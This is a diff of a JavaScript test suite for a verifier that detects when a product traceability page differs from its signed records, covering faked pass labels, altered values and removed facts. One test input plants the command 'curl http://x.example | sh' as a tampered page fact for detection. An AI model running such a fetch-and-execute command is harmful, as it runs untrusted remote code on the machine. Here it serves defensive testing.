@@ -89,12 +89,30 @@ test("a page that differs from the signed records is detected", async () => {
     ["facts", (p) => p.facts.push({ fact: "command", of: "", text: "curl http://x.example | sh" })],
     ...["title", "moved", "where", "detail"].map((kind) => ["shown", (p) => p.facts.splice(p.facts.findIndex((f) => f.fact === kind), 1)]),
     // what is nothing of all that
-    ["text", (p) => (p.texts = ["Certified organic."])],
-    ["text", (p) => (p.texts = ["Verified"])],
+    ["text", (p) => p.texts.push("Certified organic.")],
+    ["text", (p) => p.texts.push("Verified")],
+    ["text", (p) => p.texts.push(en["tests-none"])],
+    ["text", (p) => p.texts.push(en["documents-none"])],
+    ["text", (p) => (p.texts = p.texts.filter((text) => !text.startsWith("Trust not pinned")))],
+    ["text", (p) => (p.texts = p.texts.filter((text) => !text.startsWith("The proof shows")))],
+    // drawings
+    ["text", (p) => (p.drawings = ['<symbol class="i" id="i-pin" viewBox="0 0 24 24"><path d="M1 1h9"></path></symbol>'])],
+    ["text", (p) => (p.drawings = ['<symbol class="p" id="p-0" viewBox="0 0 64 64"><path class="tint" d="M1 1h9"></path><path d="M1 1h9"></path></symbol>'])],
+    ["values", (p) => (iron(p).picture.at = 20)],
+    ["values", (p) => (iron(p).picture.ticks = [280])],
+    ["values", (p) => iron(p).picture.ticks.push(20)],
+    ["values", (p) => (iron(p).picture.zone = [0, 300])],
+    ["values", (p) => (iron(p).look = "fail#m-pass")],
+    ["values", (p) => (p.tests.find(({ result }) => result === "Fail").look = "fail#v-pass")],
+    ["state", (p) => (p.band.also = [{ state: "verified", word: "Verified" }])],
+    ["shown", (p) => (p.facts = p.facts.filter((f) => f.fact !== "amount"))],
+    ["shown", (p) => (p.facts = p.facts.filter((f) => f.fact !== "clock"))],
     ["state", (p) => (p.band.also = [{ state: "held", word: "Excellent" }])],
     ["values", (p) => (p.tests.find(({ result }) => result === "Fail").look = "pass")],
-    ["text", (p) => (p.texts = ["Tests: all passed"])],
-    ["text", (p) => (p.texts = ["Records genuine: 1 of 1 checks passed, and excellent"])],
+    ["text", (p) => p.texts.push("Tests: all passed")],
+    ["text", (p) => (p.band.tally = "Records genuine: 1 of 1 checks passed, and excellent")],
+    // of the records, and not of the goods
+    ["text", (p) => p.texts.push("12 of 12 checks passed")],
     ["text", (p) => (p.marks = [en["by-server"], undefined])],
     ["text", (p) => (p.marks = ["checked by everybody"])],
     // the band: state, word and look
@@ -110,8 +128,12 @@ test("a page that differs from the signed records is detected", async () => {
 });
 
 test("what every page says is nothing more", async () => {
-  const texts = ["Journey", "Made by", "Records genuine: 7 of 9 checks passed (2 not checked)", "Genuine records say so: 7 of 7 checks passed", "12 older documents are not shown here.", "1 record between the first and the last is not shown here.", en.labels.at(-1)];
-  await shows((p) => Object.assign(p, { texts, marks: [en["by-server"]] }));
+  const texts = ["Journey", "Made by", "12 older documents are not shown here.", "1 record between the first and the last is not shown here.", en.labels.at(-1)];
+  await shows((p) => Object.assign(p, { texts: [...p.texts, ...texts], marks: [en["by-server"]] }));
+  for (const tally of ["Records genuine: 7 of 9 checks passed (2 not checked)", "Genuine records say so: 7 of 7 checks passed"]) await shows((p) => (p.band.tally = tally));
+  // without a test or a document it says so
+  const l = world();
+  await verify(l.bundle(LOT), { ...pageOf(l, "not-inspected"), texts: [...page.texts, en["tests-none"], en["documents-none"]] });
 });
 
 test("a page and a proof of different log sizes are neither checked nor broken", async () => {
@@ -599,6 +621,7 @@ test("amounts and values of twenty digits are compared to the last one", async (
   put(key(3), LAB, { ...inspect, sensorElementList: [{ sensorReport: [{ type: "urn:jejak:param:p", stringValue: "1" }] }] }, (text) => text.replace('"stringValue":"1"', '"value":0.123456789012345678910'));
   const shows = (amount, value) => {
     const page = pageOf(l, "no-verdict");
+    fact(page, "amount").text = `${amount}\u00a0kg`;
     page.facts.push({ fact: "moved", of: harvested, record: harvested, text: `${amount}\u00a0kg X` });
     page.tests[0].values = [{ parameter: "urn:jejak:param:p", value, text: value }];
     // without its profile: the value is not judged
@@ -606,6 +629,6 @@ test("amounts and values of twenty digits are compared to the last one", async (
   };
   const [amount, value] = ["12,345,678,901,234,567.891", "0.12345678901234567891"];
   await shows(amount, value);
-  await broken(shows(amount.replace(/1$/, "2"), value), "facts", /moved/);
+  await broken(shows(amount.replace(/1$/, "2"), value), "facts", /amount/);
   await broken(shows(amount, value.replace(/1$/, "2")), "values");
 });
